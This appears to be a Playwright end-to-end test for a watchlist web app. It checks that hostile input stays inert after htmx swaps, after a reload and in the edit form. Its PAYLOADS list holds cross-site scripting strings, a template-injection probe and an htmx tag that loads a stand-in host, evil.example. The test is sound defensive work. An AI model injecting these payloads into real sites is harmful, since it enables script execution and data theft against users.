"""Hostile content in a real browser: shown as text, firing nothing, breaking no policy."""

from __future__ import annotations

from playwright.sync_api import Page, expect

from tests.e2e.conftest import Server, Watch, csp_violations, sign_in_at_provider

PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    '<a hx-get="https://evil.example" hx-trigger="load">x</a>',
    "<script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
]


def test_hostile_text_is_inert(page: Page, watch: Watch, server: Server) -> None:
    page.goto(f"{server.url}/watchlist")
    sign_in_at_provider(page, "mallory@example.com")
    page.wait_for_url(f"{server.url}/watchlist")
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))

    form = page.locator("#add-form")
    for number, payload in enumerate(PAYLOADS):
        form = page.locator("#add-form")
        form.get_by_label("Symbol").fill(f"X{number}")
        form.get_by_label("Name").fill(payload)
        form.get_by_label("Notes").fill(payload)
        with page.expect_response(lambda r: r.request.method == "POST"):
            form.get_by_role("button", name="Add").click()
        expect(page.locator(".htmx-settling, .htmx-request")).to_have_count(0)

    # In place (htmx swaps), after a full reload, and in the edit form.
    for _ in range(2):
        for payload in PAYLOADS:
            expect(page.locator("#rows td", has_text=payload).first).to_be_visible()
        assert page.locator("#rows img, #rows script, #rows [hx-get*=evil]").count() == 0
        page.reload()
    page.get_by_role("link", name="Edit X0").click()
    expect(page.locator("#rows tr.editing").get_by_label("Name")).to_have_value(PAYLOADS[0])
    page.wait_for_timeout(300)

    assert watch.dialogs == []  # alert() would have opened a dialog, on any of the loads
    assert not [url for url in requests if "evil.example" in url or url.endswith("/x")]
    # {{7*7}} shown as typed, never worked out (the quote cells' digits are the provider's).
    typed = page.locator("#rows td.name, #rows td.notes, #rows input").all()
    assert typed
    for cell in typed:
        text = (
            cell.input_value()
            if cell.evaluate("(e) => e.tagName") == "INPUT"
            else cell.inner_text()
        )
        assert "49" not in text
    assert csp_violations(page) == []
    assert watch.clean(), watch
